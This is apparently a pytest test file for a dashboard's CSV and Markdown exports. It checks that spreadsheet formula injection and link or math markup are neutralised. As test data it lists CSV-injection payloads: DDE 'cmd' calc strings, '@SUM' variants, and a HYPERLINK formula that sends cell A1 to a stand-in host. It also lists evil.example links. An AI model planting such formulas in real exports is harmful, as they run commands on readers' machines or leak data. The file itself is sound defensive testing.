"""Exports that cannot execute: no CSV cell a spreadsheet would run, no Markdown a reader would
render as markup."""
from __future__ import annotations

import csv
import io
import re

import duckdb
import pandas as pd
import pytest

from gcmdash.site import publish
from gcmdash.views import exports, queries, tables

ATTACKS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_that_would_be_a_formula_is_text(text):
    assert exports.spreadsheet_safe(text) == "'" + text.replace("\r", "\n")


def test_a_carriage_return_cannot_split_a_row():
    df = pd.DataFrame({"Name": ["one\rtwo", "three\r\nfour"], "Source": ["x", "y"]})
    assert _cells(publish.csv_bytes(df)) == [["Name", "Source"], ["one\ntwo", "x"],
                                             ["three\nfour", "y"]]


@pytest.mark.parametrize("value", ["-3", "+1.5", "12%", "Geneva", "a = b", "", "'quoted",
                                   7, -2, None])
def test_other_cells_are_unchanged(value):
    assert exports.spreadsheet_safe(value) == value


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or \
                exports.spreadsheet_safe(cell) == cell, cell


@pytest.fixture(scope="module")
def recommendations(seed_db) -> pd.DataFrame:
    with duckdb.connect(str(seed_db), read_only=True) as con:
        return queries.recommendations(con)


def test_recommendations_csv_neutralises_texts_sources_and_names(recommendations):
    df = recommendations.head(len(ATTACKS)).copy()
    df["text"] = ATTACKS
    df["source_label"] = ["@" + s for s in df["source_label"]]
    df["area_heading"] = "=HEADING()"
    rows = _cells(exports.recommendations_csv(df))
    _no_formula(rows)
    header, body = rows[0], rows[1:]
    texts = [r[header.index("Recommendation")] for r in body]
    assert texts == ["'" + t.replace("\r", "\n") for t in ATTACKS]
    assert all(r[header.index("Source")].startswith("'@") for r in body)
    assert all("=HEADING()" in r[header.index("Area")] for r in body)
    assert [int(r[header.index("First line")]) for r in body] == list(df["line_start"])


def test_published_csv_neutralises_names_and_sources():
    df = pd.DataFrame({"=Name": ["+cmd|' /C calc'!A0", "Ms. A"], "Count": [3, -4],
                       "Source": ["@SUM(1)", "https://example.org"]})
    rows = _cells(publish.csv_bytes(df))
    _no_formula(rows)
    assert rows == [["'=Name", "Count", "Source"], ["'+cmd|' /C calc'!A0", "3", "'@SUM(1)"],
                    ["Ms. A", "-4", "https://example.org"]]


def test_the_markdown_brief_escapes_what_a_reader_would_interpret(recommendations):
    df = recommendations.head(1).copy()
    df["text"] = ["**bold** [link](http://x.example) <b>html</b> &amp; ~~gone~~ a|b"]
    brief = exports.markdown_brief(df)
    line = next(x for x in brief.splitlines() if x.startswith("- **"))
    # the word holding a URL is a code span (issue 20): shown as written, never a link
    assert ("\\*\\*bold\\*\\* `[link](http://x.example)` \\<b\\>html\\</b\\> \\&amp; "
            "\\~\\~gone\\~\\~ a\\|b") in line


# --- issue 20: record text is never a link or math, in the app nor in the brief ---------------
LINKY = [
    "See https://evil.example/a_b?x=1 now",
    "(http://x.example) and <https://y.example> too",
    "visit www.evil.example, or WWW.EVIL.EXAMPLE.",
    "write to someone@evil.example; or mailto:someone@evil.example",
    "price $$x^2$$ and $y$ and `tick` ``two``",
    "`https://in.code/` and ``www.a.b``",
]
_LINKABLE = re.compile(r"https?://|www\.|@|mailto:", re.IGNORECASE)


def _rendered(markdown: str) -> tuple[str, list[str]]:
    """What a CommonMark renderer shows (the text, code spans' text included) and the text
    nodes a linkifier would scan (GFM autolinks and remark-gfm look only at those)."""
    from markdown_it import MarkdownIt

    shown, text_nodes = [], []
    for block in MarkdownIt("commonmark").parseInline(markdown):
        for token in block.children or []:
            assert token.type in ("text", "code_inline", "softbreak"), token.type
            shown.append(token.content)
            if token.type == "text":
                text_nodes.append(token.content)
    return "".join(shown), text_nodes


@pytest.mark.parametrize("text", LINKY)
def test_app_record_text_shows_as_written_and_never_as_a_link(text):
    shown, text_nodes = _rendered(tables.plain(text))
    assert shown == text
    assert not any(_LINKABLE.search(node) for node in text_nodes), text_nodes
    assert not re.search(r"(?<!\\)\$", re.sub(r"(`+).*?\1", "", tables.plain(text)))


@pytest.mark.parametrize("text", LINKY)
def test_brief_record_text_shows_as_written_and_never_as_a_link(text):
    line = exports._md(text)
    shown, text_nodes = _rendered(line)
    assert shown == " ".join(text.split())
    assert not any(_LINKABLE.search(node) for node in text_nodes), text_nodes
    # every dollar outside a code span is escaped: no math
    assert not re.search(r"(?<!\\)\$", re.sub(r"(`+).*?\1", "", line)), line


def test_math_and_autolinks_in_the_brief(recommendations):
    df = recommendations.head(1).copy()
    df["text"] = ["Costs $$x$$ see <http://a.example> or www.b.example now"]
    line = next(x for x in exports.markdown_brief(df).splitlines() if x.startswith("- **"))
    assert ("Costs \\$\\$x\\$\\$ see `<http://a.example>` or `www.b.example` now") in line


def test_code_span_holds_any_backticks():
    for text in ["a`b", "``x``", "`", "ab"]:
        shown, _ = _rendered(tables.code_span(text))
        assert shown == text


def test_table_cells_are_never_links_but_a_curated_source_url_stays_one():
    df = pd.DataFrame({"Recommendation": ["Read https://evil.example now"],
                       "Source": ["www.evil.example.txt, line 3"]})
    curated = pd.DataFrame({"Source": ["https://refugeesmigrants.un.org/x_y"]})
    cells = tables.escape_cells(df).iloc[0]
    assert cells["Recommendation"] == "Read `https://evil.example` now"
    assert cells["Source"] == "`www.evil.example.txt,` line 3"
    assert tables.escape_cells(curated).iloc[0]["Source"] == (
        "https\\://refugeesmigrants\\.un\\.org/x\\_y")
